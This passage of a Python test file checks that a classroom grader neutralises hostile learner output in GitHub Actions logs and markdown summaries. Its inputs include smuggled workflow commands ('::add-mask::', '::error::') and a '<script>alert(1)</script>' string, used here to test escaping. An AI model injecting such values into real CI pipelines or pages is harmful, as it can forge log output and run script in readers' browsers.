    [annotation] = [line for line in lines if line.startswith("::error ")]
    assert annotation == (f"::error file=exercises/{GATHER}.py,title={GATHER}%3A%3Agather_2d fail::"
                          "failed: wrong values at [0, 1]%0A::add-mask::secret%0A::error::fake%0A%250A 100%25 sure, a:b")
    # Everything else that came from the learner sits between stop-commands markers.
    start, end = lines.index("::stop-commands::t0ken"), lines.index("::t0ken::")
    assert start < lines.index("    ::add-mask::secret") < end and end == len(lines) - 1
    assert f"    re-run it in your repository: kata check {GATHER} --dir exercises" in lines
    assert classroom.job_log(reporter_result("x")).count("::stop-commands::") == 1   # a fresh token


def test_the_step_summary_shows_each_failure_as_text_not_markup():
    hostile = "tensor([1., 2.])\n```\n<script>alert(1)</script> | **bold**"
    markdown = classroom.step_summary(reporter_result(hostile), install=SPEC)
    assert markdown.startswith("## torchkata: 1 of 2 points\n")
    assert f"| ✅ | <code>{GATHER}::pick_per_row</code> | pass |" in markdown
    assert f"| ❌ | <code>{GATHER}::gather_2d</code> | fail |" in markdown
    # The message sits in a fence longer than any backtick run inside it, so it cannot close it.
    fence_open = markdown.index("````text\n")
    body_end = markdown.index("\n````\n", fence_open)
    assert "<script>" in markdown[fence_open:body_end] and markdown.count("<script>") == 1
    assert f"Re-run it in your repository: <code>kata check {GATHER} --dir exercises</code>" in markdown
    odd = classroom.step_summary(reporter_result("x", name=f"{GATHER}::a|<b>"))
    assert "<code>04_indexing/gather::a&#124;&lt;b&gt;</code>" in odd
    assert "Why tests did not pass" not in classroom.step_summary(
        classroom.from_exercism(emitters.to_exercism(GradeReport(katas=[KataResult(GATHER, "gather", tests=[
            Result(GATHER, "pick_per_row", Status.PASSED, score=1.0)])]))))


def test_main_appends_the_step_summary(tmp_path):
    results = tmp_path / "results.json"
    results.write_text(emitters.render(sample_report(), "exercism"))
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    classroom.main([str(results), "--github-output", str(tmp_path / "out"), "--step-summary", str(summary)])
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("earlier step\n## torchkata: 1 of 4 points")
    assert "wrong values at [0, 1]" in text and "debug print" in text
